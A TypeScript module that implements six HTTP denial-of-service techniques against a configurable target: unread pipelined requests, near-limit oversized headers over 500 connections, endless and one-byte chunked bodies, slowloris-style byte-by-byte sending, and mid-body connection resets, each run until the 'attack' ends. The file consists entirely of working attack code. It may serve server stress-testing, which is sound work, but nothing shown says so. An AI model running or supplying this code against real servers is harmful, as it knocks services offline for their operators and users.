/** The ways in which a request can be made to cost. Each goes on until the attack is over. */
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, onEach, open, send } from './connection.ts'
import { bodyStart, headOf, type Target } from './targets.ts'

export interface Way {
  name: string
  /** It sends megabytes in bodies: what it costs is counted by the megabyte. */
  isBulk: boolean
  run(attack: Attack, target: Target): Promise<void>
}

const KILOBYTE = 1024
const PIECE = Buffer.alloc(64 * KILOBYTE, 'a')
const CHUNK = Buffer.concat([Buffer.from(`${PIECE.length.toString(16)}\r\n`), PIECE, Buffer.from('\r\n')])
const TINY_CHUNKS = Buffer.from('1\r\na\r\n'.repeat(10_000))
const CHUNKED = 'Transfer-Encoding: chunked\r\n\r\n'

/** Just below what a server reads of headers. */
const LARGE_HEADERS = `X-Filler: ${'a'.repeat(1000)}\r\n`.repeat(14)

export const WAYS: Way[] = [
  {
    name: 'pipelined, never read',
    isBulk: false,
    run: (attack, target) =>
      onEach(attack, 16, async () => {
        const socket = await open(attack, { reads: false })
        if (socket === null) return
        const batch = `${headOf(target)}Content-Length: 0\r\n\r\n`.repeat(100)
        while (!attack.isOver() && (await send(attack, socket, batch))) await sleep(20)
        // What was asked for is held as long as the attack goes on.
        while (!attack.isOver() && !socket.destroyed) await sleep(50)
        socket.destroy()
      }),
  },
  {
    name: 'large headers, 500 at once',
    isBulk: false,
    run: (attack, target) =>
      onEach(attack, 500, async () => {
        const socket = await open(attack, { reads: true })
        if (socket === null) return
        await send(attack, socket, `${headOf(target, LARGE_HEADERS)}Content-Length: 0\r\n\r\n`)
        while (!attack.isOver() && !socket.destroyed) await sleep(50)
        socket.destroy()
      }),
  },
  {
    name: 'endless body',
    isBulk: true,
    run: (attack, target) => onEach(attack, 8, () => pour(attack, target, CHUNK)),
  },
  {
    name: 'chunks of one byte',
    isBulk: true,
    run: (attack, target) => onEach(attack, 8, () => pour(attack, target, TINY_CHUNKS)),
  },
  {
    name: 'byte by byte',
    isBulk: false,
    run: (attack, target) =>
      onEach(attack, 200, async () => {
        const socket = await open(attack, { reads: true })
        if (socket === null) return
        const start = bodyStart(target)
        const whole = `${headOf(target)}Content-Length: 100000\r\n\r\n${start}${'a'.repeat(1000)}`
        // The head at once: it is the body that may be slow.
        const head = whole.indexOf(start)
        let goesOn = await send(attack, socket, whole.slice(0, head))
        for (let at = head; at < whole.length && goesOn && !attack.isOver(); at++) {
          goesOn = await send(attack, socket, whole.slice(at, at + 1))
          await sleep(50)
        }
        socket.destroy()
      }),
  },
  {
    name: 'reset half-way',
    isBulk: false,
    run: (attack, target) =>
      onEach(attack, 100, async () => {
        const socket = await open(attack, { reads: false })
        if (socket === null) return
        await send(attack, socket, `${headOf(target)}Content-Length: 100000\r\n\r\n${bodyStart(target)}`)
        socket.resetAndDestroy()
      }),
  },
]

async function pour(attack: Attack, target: Target, piece: Uint8Array): Promise<void> {
  const socket = await open(attack, { reads: true })
  if (socket === null) return
  const start = bodyStart(target)
  const head = `${headOf(target)}${CHUNKED}${start.length.toString(16)}\r\n${start}\r\n`
  let goesOn = await send(attack, socket, head)
  while (goesOn && !attack.isOver()) goesOn = await send(attack, socket, piece)
  socket.destroy()
}
